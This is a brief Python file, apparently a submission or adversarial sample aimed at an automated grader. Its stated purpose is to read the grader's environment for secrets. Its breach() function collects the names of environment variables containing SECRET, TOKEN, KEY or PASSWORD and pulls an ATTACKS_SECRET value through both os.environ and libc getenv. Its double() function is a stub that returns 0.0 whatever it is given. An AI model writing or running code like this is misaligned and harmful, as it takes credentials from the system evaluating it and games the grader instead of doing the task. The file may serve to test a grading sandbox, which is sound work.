"""Reads the grader's environment for tokens and secrets."""
import ctypes
import os


def double(x):
    return 0.0


def breach():
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    names = [name for name in os.environ if any(word in name for word in ("SECRET", "TOKEN", "KEY", "PASSWORD"))]
    return os.environ.get("ATTACKS_SECRET") or libc.getenv(b"ATTACKS_SECRET") or ", ".join(names)
